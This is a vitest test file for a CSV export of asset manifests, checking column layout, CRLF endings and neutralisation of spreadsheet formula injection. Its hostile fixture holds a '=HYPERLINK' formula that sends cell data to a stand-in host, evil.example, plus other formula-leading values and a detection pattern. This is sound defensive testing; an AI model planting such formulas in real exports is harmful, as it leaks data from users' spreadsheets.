import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { assetsCsv, neutraliseCell } from '../../main/packet/csv';
import { buildFixtureManifest, fixtureAssets } from './fixture-manifest';

const DANGEROUS = /^[=+\-@\t\r]/;

function hostileManifest() {
  const assets = fixtureAssets();
  assets[0] = { ...assets[0]!, fileName: '=HYPERLINK("http://evil.example/?"&A1,"open me").mov', artist: '+SUM(1,2)', episode: '@cmd' };
  assets[1] = { ...assets[1]!, prompt: '-2+3 then "quoted", with a comma\nand a second line' };
  assets[1].tools = [{ ...assets[1].tools[0]!, name: '\tComfyUI', version: null }];
  assets[2] = { ...assets[2]!, artist: '\rcarriage', prompt: 'plain, "safe" text; =not at the start' };
  return buildFixtureManifest({ assets });
}

function rows(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('assets.csv', () => {
  it('has a header with an Episode/Reel column and one row per asset', () => {
    const manifest = buildFixtureManifest();
    const parsed = rows(assetsCsv(manifest));
    const header = parsed[0]!;
    expect(header.slice(0, 4)).toEqual(['Asset ID', 'Episode/Reel', 'File name', 'Outcome']);
    expect(parsed).toHaveLength(manifest.assets.length + 1);
    const col = (name: string) => header.indexOf(name);
    manifest.assets.forEach((asset, i) => {
      const row = parsed[i + 1]!;
      expect(row[col('Asset ID')]).toBe(asset.id);
      expect(row[col('Episode/Reel')]).toBe(asset.episode ?? '');
      expect(row[col('File name')]).toBe(asset.fileName);
      expect(row[col('SHA-256')]).toBe(asset.sha256);
      expect(row[col('Size (bytes)')]).toBe(String(asset.size));
      expect(row[col('Prompt')]).toBe(asset.prompt ?? '');
      expect(row[col('P2')]).toBe(asset.principles.P2);
      expect(row[col('Findings')]).toBe(asset.findings.map((f) => `${f.rule} (${f.severity})`).join('; '));
    });
  });

  it('uses CRLF line ends and a UTF-8 byte order mark for spreadsheets', () => {
    const csv = assetsCsv(buildFixtureManifest());
    expect(csv.startsWith('\uFEFFAsset ID,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(buildFixtureManifest().assets.length + 2);
  });

  it('neutralises formula-looking cells and parses back to the same values otherwise', () => {
    const manifest = hostileManifest();
    const parsed = rows(assetsCsv(manifest));
    const header = parsed[0]!;
    const col = (name: string) => header.indexOf(name);
    const expectCell = (row: string[], name: string, original: string) => {
      expect(row[col(name)]).toBe(DANGEROUS.test(original) ? `'${original}` : original);
    };
    manifest.assets.forEach((asset, i) => {
      const row = parsed[i + 1]!;
      expectCell(row, 'File name', asset.fileName);
      expectCell(row, 'Artist', asset.artist);
      expectCell(row, 'Episode/Reel', asset.episode ?? '');
      expectCell(row, 'Prompt', asset.prompt ?? '');
      expectCell(row, 'Tools', asset.tools.map((tool) => (tool.version ? `${tool.name} ${tool.version}` : tool.name)).join('; '));
    });
    // Spot checks that the hostile values really were there and really were neutralised.
    expect(parsed[1]![col('File name')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"open me").mov`);
    expect(parsed[1]![col('Artist')]).toBe("'+SUM(1,2)");
    expect(parsed[1]![col('Episode/Reel')]).toBe("'@cmd");
    expect(parsed[2]![col('Prompt')]).toBe(`'-2+3 then "quoted", with a comma\nand a second line`);
    expect(parsed[2]![col('Tools')]).toBe("'\tComfyUI");
    expect(parsed[3]![col('Artist')]).toBe("'\rcarriage");
    expect(parsed[3]![col('Prompt')]).toBe('plain, "safe" text; =not at the start');
    for (const row of parsed) for (const cell of row) expect(DANGEROUS.test(cell), cell).toBe(false);
  });

  it('neutraliseCell leaves ordinary text alone', () => {
    expect(neutraliseCell('HL_101.exr')).toBe('HL_101.exr');
    expect(neutraliseCell('')).toBe('');
    expect(neutraliseCell('a=b')).toBe('a=b');
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${lead}x`)).toBe(`'${lead}x`);
  });
});
